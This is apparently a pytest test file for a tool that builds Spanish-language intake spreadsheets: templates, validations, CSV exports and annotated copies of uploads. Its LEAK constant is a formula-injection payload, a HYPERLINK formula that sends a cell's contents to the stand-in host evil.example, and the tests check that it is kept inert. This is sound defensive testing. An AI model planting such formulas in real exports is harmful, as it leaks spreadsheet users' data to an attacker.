"""Intake workbooks from the sheet declarations: the template to fill, the same layout holding
exported rows (and CSV for big sheets), the annotated copy of an upload, the README's tables.

Files are read back with openpyxl (and the CSV as text) as a spreadsheet would open them.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
from pathlib import Path

import pandas as pd
import pytest
from openpyxl import Workbook, load_workbook

from exports import intake_workbook as iw
from rules.intake.problems import Problem
from rules.intake.sheets import BY_NAME, ENTITIES, ORDER, Column, Kind, Sheet

ROOT = Path(__file__).resolve().parent.parent
LEAK = '=HYPERLINK("http://evil.example/?leak="&A2,"Ver soporte")'


def open_xlsx(data: bytes, **kw):
    return load_workbook(io.BytesIO(data), **kw)


def validations(ws) -> dict[str, object]:
    """Column letter → the data validation covering that column from row 2."""
    found = {}
    for dv in ws.data_validations.dataValidation:
        for rng in dv.sqref.ranges:
            assert rng.min_row == 2 and rng.max_row == iw.XLSX_MAX_ROWS
            found[rng.coord.split(":")[0].rstrip("0123456789")] = dv
    return found


def letter(sheet: Sheet, column: str) -> str:
    return chr(ord("A") + [c.name for c in sheet.columns].index(column))


# ------------------------------------------------------------------ template

@pytest.mark.parametrize("entity", list(ENTITIES))
def test_template_has_instructions_first_then_the_declared_sheets_with_exact_headers(entity):
    wb = open_xlsx(iw.template_bytes(entity))
    assert wb.sheetnames == ["instrucciones"] + [s.name for s in ENTITIES[entity]]
    for sheet in ENTITIES[entity]:
        ws = wb[sheet.name]
        assert [c.value for c in ws[1]] == [c.name for c in sheet.columns]
        assert ws.freeze_panes == "A2"


@pytest.mark.parametrize("entity", list(ENTITIES))
def test_template_has_no_data_rows(entity):
    wb = open_xlsx(iw.template_bytes(entity))
    for sheet in ENTITIES[entity]:
        assert wb[sheet.name].max_row == 1


def test_template_marks_required_headers_and_comments_each_with_its_example():
    sheet = BY_NAME["contratos"]
    ws = open_xlsx(iw.template_bytes("contracts"))["contratos"]
    for col, cell in zip(sheet.columns, ws[1]):
        assert cell.font.b
        assert (cell.fill.fgColor.rgb == "00FFF2CC") is col.required, col.name
        assert col.description in cell.comment.text
        assert f"Ejemplo: {col.example}" in cell.comment.text
        assert ("Obligatoria." if col.required else "Opcional.") in cell.comment.text


@pytest.mark.parametrize("sheet", ORDER, ids=lambda s: s.name)
def test_template_offers_a_drop_down_of_sheet_values_for_every_catalogue_column(sheet):
    ws = open_xlsx(iw.template_bytes(sheet.entity))[sheet.name]
    found = validations(ws)
    for col in sheet.columns:
        if col.allowed and col.kind is not Kind.LIST:
            dv = found[letter(sheet, col.name)]
            assert dv.type == "list"
            assert dv.formula1 == '"' + ",".join(col.allowed) + '"'
            assert dv.showErrorMessage and col.name in dv.error


def test_ans_definition_drop_downs_offer_the_sheet_values_not_the_stored_codes():
    sheet = BY_NAME["ans_definiciones"]
    found = validations(open_xlsx(iw.template_bytes("sla-definitions"))["ans_definiciones"])
    assert found[letter(sheet, "tipo")].formula1 == '"reportado,derivado"'
    assert found[letter(sheet, "direccion")].formula1 == '"mayor_mejor,menor_mejor"'
    assert found[letter(sheet, "unidad")].formula1 == '"%,dias,numero"'


def test_a_list_column_holding_several_codes_has_no_drop_down_but_names_its_codes():
    sheet = BY_NAME["contratos"]
    ws = open_xlsx(iw.template_bytes("contracts"))["contratos"]
    assert letter(sheet, "servicios") not in validations(ws)
    comment = ws[f"{letter(sheet, 'servicios')}1"].comment.text
    assert all(code in comment for code in sheet.column("servicios").allowed)


def test_template_date_columns_validate_dates_from_2000_and_past_events_until_today():
    sheet = BY_NAME["alertas"]
    found = validations(open_xlsx(iw.template_bytes("alerts"))["alertas"])
    opened = found[letter(sheet, "fecha_apertura")]
    assert (opened.type, opened.operator, opened.formula1, opened.formula2) == \
        ("date", "between", "DATE(2000,1,1)", "TODAY()")
    contract = BY_NAME["contratos"]
    end = validations(open_xlsx(iw.template_bytes("contracts"))["contratos"])[letter(contract, "fecha_fin")]
    assert (end.type, end.operator, end.formula1) == ("date", "greaterThanOrEqual", "DATE(2000,1,1)")


def test_template_bounded_integer_columns_validate_whole_numbers_within_their_bounds():
    sheet = BY_NAME["focalizacion"]
    found = validations(open_xlsx(iw.template_bytes("targeting"))["focalizacion"])
    year = found[letter(sheet, "anio")]
    assert (year.type, year.operator, year.formula1, year.formula2) == ("whole", "between", "2000", "2100")
    target = found[letter(sheet, "poblacion_objetivo")]
    assert (target.type, target.operator, target.formula1) == ("whole", "greaterThanOrEqual", "0")


def test_a_catalogue_too_long_for_an_inline_list_is_referenced_from_the_hidden_listas_sheet():
    values = {f"valor_permitido_{i:03d}": i for i in range(40)}
    sheet = Sheet("largas", "largas", "Hoja de prueba",
                  (Column("codigo", Kind.CODE, "Código", "A"), Column("clase", Kind.CODE, "Clase", "x",
                                                                      allowed=values)), key=("codigo",))
    wb = open_xlsx(iw.workbook_bytes([sheet], {}))
    assert wb.sheetnames == ["instrucciones", "largas", "listas"]
    assert wb["listas"].sheet_state == "hidden"
    dv = validations(wb["largas"])["B"]
    assert dv.type == "list" and dv.formula1 == "listas!$A$2:$A$41"
    assert [c.value for c in wb["listas"]["A"][1:]] == list(values)


def instructions_text(entity: str) -> str:
    return "\n".join(" | ".join(str(v) for v in row if v is not None)
                     for row in open_xlsx(iw.template_bytes(entity))["instrucciones"].iter_rows(values_only=True))


def test_instructions_describe_every_column_of_every_sheet_with_its_notes():
    text = instructions_text("enrolments")
    sheet = BY_NAME["inscripciones"]
    for col in sheet.columns:
        assert f"{col.name} | {'sí' if col.required else 'no'} | {iw.KIND_LABELS[col.kind]}" in text
        assert col.description in text
    assert sheet.notes[0] in text


def test_instructions_give_the_load_order_of_import_all():
    text = instructions_text("operators")
    assert all(f"{i}. {s.name} (tablero import {s.entity})" in text for i, s in enumerate(ORDER, start=1))


def test_instructions_say_headers_match_case_and_accent_insensitively():
    assert "sin importar mayúsculas, minúsculas ni tildes" in instructions_text("offices")


def test_instructions_carry_the_personal_data_note_only_for_sheets_with_personal_data():
    assert "Ley 1581 de 2012" in instructions_text("households")
    assert "Ley 1581 de 2012" not in instructions_text("operators")


def test_unknown_entity_is_refused_naming_the_known_ones():
    with pytest.raises(ValueError, match="operators"):
        iw.template_bytes("personas")


# ------------------------------------------------------------------ data workbook

def sla_definitions_frame() -> pd.DataFrame:
    return pd.DataFrame({
        "codigo_ans": ["AT-INT-01", "DER-01"], "ruta": ["intermedia", "basica"],
        "servicio": ["asistencia_tecnica", "monitoreo"], "nombre": ["Visitas", LEAK],
        "descripcion": [None, "#N/A"], "tipo": ["reported", "derived"],
        "clave_derivada": [None, "pct_cobertura_servicio"], "unidad": ["%", "días"], "meta": [90.0, 12.5],
        "direccion": ["higher", "lower"], "tolerancia": [5.0, None], "peso": [1.0, 2.0],
        "frecuencia": ["trimestral", None],
    })


def test_data_workbook_writes_catalogue_codes_as_their_sheet_values():
    ws = open_xlsx(iw.data_workbook_bytes("sla-definitions", {"ans_definiciones": sla_definitions_frame()}))[
        "ans_definiciones"]
    rows = [dict(zip([c.value for c in ws[1]], r)) for r in ws.iter_rows(min_row=2, values_only=True)]
    assert [(r["tipo"], r["unidad"], r["direccion"]) for r in rows] == \
        [("reportado", "%", "mayor_mejor"), ("derivado", "dias", "menor_mejor")]
    assert [r["meta"] for r in rows] == [90, 12.5]


def test_data_workbook_writes_dates_as_excel_dates_in_day_month_year():
    frame = pd.DataFrame({
        "codigo_contrato": ["C-1", "C-2"], "codigo_operador": ["PSDE-AND", "PSDE-AND"], "ruta": ["basica"] * 2,
        "oficina_regional": ["OR-ANT"] * 2, "fecha_inicio": [dt.date(2025, 2, 1), pd.Timestamp("2024-03-04")],
        "fecha_fin": [dt.date(2027, 1, 31), None], "valor_cop": [1_250_000_000, 0],
        "servicios": [("asistencia_tecnica", "comercializacion"), ("monitoreo",)],
    })
    ws = open_xlsx(iw.data_workbook_bytes("contracts", {"contratos": frame}))["contratos"]
    start, end = ws["E2"], ws["F2"]
    assert (start.value, start.is_date, start.number_format) == (dt.datetime(2025, 2, 1), True, "DD/MM/YYYY")
    assert end.value == dt.datetime(2027, 1, 31) and end.number_format == "DD/MM/YYYY"
    assert ws["E3"].value == dt.datetime(2024, 3, 4) and ws["F3"].value is None


def test_data_workbook_writes_lists_joined_by_semicolons():
    frame = pd.DataFrame({
        "codigo_contrato": ["C-1"], "codigo_operador": ["PSDE-AND"], "ruta": ["basica"],
        "oficina_regional": ["OR-ANT"], "fecha_inicio": [dt.date(2025, 2, 1)], "fecha_fin": [None],
        "valor_cop": [1_250_000_000], "servicios": [("asistencia_tecnica", "comercializacion")],
    })
    ws = open_xlsx(iw.data_workbook_bytes("contracts", {"contratos": frame}))["contratos"]
    assert ws["H2"].value == "asistencia_tecnica;comercializacion"
    assert ws["G2"].value == 1_250_000_000


def test_data_workbook_writes_booleans_as_si_no_and_keeps_codes_as_text():
    frame = pd.DataFrame({
        "codigo_hogar": ["H-1", "H-2"], "nombre_jefe": ["María Pérez", "Juan Gómez"], "documento": ["0043123456", 7],
        "cod_municipio": ["05001", 5002], "sexo": ["F", "M"], "edad": [34, 51], "etnia": ["ninguna", "raizal"],
        "victima": [False, True], "nit_opr": [None, "900123456-8"], "fecha_registro": [dt.date(2025, 1, 20)] * 2,
    })
    ws = open_xlsx(iw.data_workbook_bytes("households", {"hogares": frame}))["hogares"]
    rows = [dict(zip([c.value for c in ws[1]], r)) for r in ws.iter_rows(min_row=2)]
    assert [r["victima"].value for r in rows] == ["no", "si"]
    assert [r["sexo"].value for r in rows] == ["f", "m"]
    assert [(r["cod_municipio"].value, r["cod_municipio"].data_type) for r in rows] == [("05001", "s"), ("05002", "s")]
    assert [(r["documento"].value, r["documento"].data_type) for r in rows] == [("0043123456", "s"), ("7", "s")]
    assert rows[1]["nit_opr"].value == "900123456-8"


def test_data_workbook_keeps_hostile_text_as_string_cells():
    ws = open_xlsx(iw.data_workbook_bytes("sla-definitions", {"ans_definiciones": sla_definitions_frame()}))[
        "ans_definiciones"]
    assert (ws["D3"].value, ws["D3"].data_type) == (LEAK, "s")
    assert (ws["E3"].value, ws["E3"].data_type) == ("#N/A", "s")


def test_data_workbook_streams_frames_given_in_chunks():
    frame = sla_definitions_frame()
    chunked = iw.data_workbook_bytes("sla-definitions", {"ans_definiciones": iter([frame[:1], frame[1:]])})
    whole = iw.data_workbook_bytes("sla-definitions", {"ans_definiciones": frame})
    assert [r for r in open_xlsx(chunked)["ans_definiciones"].iter_rows(values_only=True)] == \
        [r for r in open_xlsx(whole)["ans_definiciones"].iter_rows(values_only=True)]


def test_data_workbook_refuses_a_frame_without_a_required_column():
    with pytest.raises(ValueError, match="codigo_operador"):
        iw.data_workbook_bytes("operators", {"operadores": pd.DataFrame({"nombre": ["PSDE Andes"]})})


# ------------------------------------------------------------------ CSV

def test_sheet_csv_uses_semicolons_bom_day_month_year_and_decimal_commas():
    data = iw.sheet_csv_bytes("ans_reportes", pd.DataFrame({
        "codigo_ans": ["AT-INT-01"], "codigo_contrato": ["C-1"], "trimestre": ["2026Q3"], "valor": [92.5],
        "soporte": ["Informe"], "fecha_reporte": [dt.date(2026, 10, 10)],
    }))
    assert data.startswith(b"\xef\xbb\xbf")
    assert data.decode("utf-8-sig").splitlines() == [
        "codigo_ans;codigo_contrato;trimestre;valor;soporte;fecha_reporte",
        "AT-INT-01;C-1;2026Q3;92,5;Informe;10/10/2026",
    ]


def test_sheet_csv_quotes_lists_and_makes_hostile_text_inert():
    data = iw.sheet_csv_bytes(BY_NAME["contratos"], pd.DataFrame({
        "codigo_contrato": [LEAK], "codigo_operador": ["PSDE-AND"], "ruta": ["basica"], "oficina_regional": ["OR"],
        "fecha_inicio": [dt.date(2025, 2, 1)], "fecha_fin": [None], "valor_cop": [5],
        "servicios": [("asistencia_tecnica", "monitoreo")],
    }))
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))
    assert rows[1] == ["'" + LEAK, "PSDE-AND", "basica", "OR", "01/02/2025", "", "5", "asistencia_tecnica;monitoreo"]


def test_write_sheet_csv_streams_chunks_to_the_same_file_as_one_frame(tmp_path):
    frame = sla_definitions_frame()
    path = tmp_path / "ans_definiciones.csv"
    iw.write_sheet_csv(path, "ans_definiciones", iter([frame[:1], frame[1:]]))
    assert path.read_bytes() == iw.sheet_csv_bytes("ans_definiciones", frame)


# ------------------------------------------------------------------ annotated copy

def upload() -> bytes:
    wb = Workbook()
    ws = wb.active
    ws.title = "Contratos"
    ws.append(["Código_Contrato", "codigo_operador", "ruta", "servicios"])
    ws.append(["C-1", "PSDE-AND", "rapida", "monitoreo"])
    ws.append(["C-2", "PSDE-X", "basica", "monitoreo"])
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


BAD = "00FFC7CE"


def test_annotated_copy_fills_and_comments_the_bad_cell_by_its_letter():
    ws = open_xlsx(iw.annotated_copy(upload(), [
        Problem("contratos", 2, "ruta", "«rapida» no es una ruta: use basica, intermedia o competitividad.", "C",
                "rapida")]))["Contratos"]
    assert ws["C2"].fill.fgColor.rgb == BAD
    assert "use basica, intermedia o competitividad" in ws["C2"].comment.text
    assert ws["C2"].value == "rapida"
    assert ws["B2"].fill.fgColor.rgb != BAD and ws["B2"].comment is None


def test_annotated_copy_finds_the_column_by_its_header_when_no_letter_is_given():
    ws = open_xlsx(iw.annotated_copy(upload(), [
        Problem("contratos", 3, "codigo_contrato", "«C-2» está repetido en la fila 5.")]))["Contratos"]
    assert ws["A3"].fill.fgColor.rgb == BAD and "repetido" in ws["A3"].comment.text


def test_annotated_copy_marks_a_whole_row_on_its_first_cell():
    ws = open_xlsx(iw.annotated_copy(upload(), [
        Problem("contratos", 3, "", "El contrato pertenece a otro operador.")]))["Contratos"]
    assert ws["A3"].fill.fgColor.rgb == BAD and "otro operador" in ws["A3"].comment.text


def test_annotated_copy_marks_a_column_problem_on_its_header():
    ws = open_xlsx(iw.annotated_copy(upload(), [
        Problem("contratos", None, "servicios", "Columna sin valores.")]))["Contratos"]
    assert ws["D1"].fill.fgColor.rgb == BAD and "sin valores" in ws["D1"].comment.text


def test_annotated_copy_marks_a_merged_cell_on_its_top_left_cell():
    wb = open_xlsx(upload())
    wb["Contratos"].merge_cells("B2:B3")
    buf = io.BytesIO()
    wb.save(buf)
    ws = open_xlsx(iw.annotated_copy(buf.getvalue(), [
        Problem("contratos", 3, "codigo_operador", "Celdas combinadas: separe B2:B3.", "B")]))["Contratos"]
    assert ws["B2"].fill.fgColor.rgb == BAD and "separe B2:B3" in ws["B2"].comment.text


def test_annotated_copy_lists_every_problem_first_also_those_no_cell_holds():
    wb = open_xlsx(iw.annotated_copy(upload(), [
        Problem("contratos", 2, "ruta", "Ruta desconocida.", "C", LEAK),
        Problem("ventas", None, "", "Falta la hoja «ventas»."),
    ]))
    assert wb.sheetnames[0] == "problemas" and wb.active.title == "problemas"
    rows = list(wb["problemas"].iter_rows(values_only=True))
    assert rows == [("hoja", "fila", "columna", "celda", "valor", "problema"),
                    ("contratos", 2, "ruta", "C2", LEAK, "Ruta desconocida."),
                    ("ventas", None, None, None, None, "Falta la hoja «ventas».")]
    assert wb["problemas"]["E2"].data_type == "s"


def test_annotated_copy_of_a_csv_upload_is_a_workbook_of_its_fields_with_the_same_marks():
    data = b"codigo_contrato;ruta\nC-1;rapida\n=1+1;basica\n"
    ws = open_xlsx(iw.annotated_copy(data, [Problem("contratos", 2, "ruta", "Ruta desconocida.", "B", "rapida")]))[
        "contratos"]
    assert [[c.value for c in row] for row in ws.iter_rows()] == \
        [["codigo_contrato", "ruta"], ["C-1", "rapida"], ["=1+1", "basica"]]
    assert ws["A3"].data_type == "s"
    assert ws["B2"].fill.fgColor.rgb == BAD and "Ruta desconocida" in ws["B2"].comment.text


def test_annotated_copy_of_a_csv_in_another_encoding_shows_its_accents():
    data = "codigo_operador,nombre\nPSDE-AND,Asociación Ñame\n".encode("cp1252")
    ws = open_xlsx(iw.annotated_copy(data, [Problem("operadores", None, "", "El archivo no está en UTF-8.")]))[
        "operadores"]
    assert ws["B2"].value == "Asociación Ñame"
    assert ws["A1"].fill.fgColor.rgb == BAD


def test_annotated_copy_of_an_unreadable_file_still_lists_the_problems():
    wb = open_xlsx(iw.annotated_copy(b"PK\x03\x04 not a workbook", [Problem("", None, "", "No es un .xlsx.")]))
    assert wb.sheetnames == ["problemas"]
    assert wb["problemas"]["F2"].value == "No es un .xlsx."


# ------------------------------------------------------------------ README

def test_readme_sheet_tables_are_the_generated_ones():
    readme = (ROOT / "README.md").read_text(encoding="utf-8")
    assert iw.readme_block(readme) == iw.sheet_table_markdown(), \
        "regenerate with: .venv/bin/python -m exports.intake_workbook README.md"


def test_readme_sheet_tables_document_every_declared_column():
    text = iw.sheet_table_markdown()
    for sheet in ORDER:
        assert f"### `{sheet.name}` (`tablero import {sheet.entity}`)" in text
        for col in sheet.columns:
            assert f"| `{col.name}` | {'sí' if col.required else 'no'} |" in text
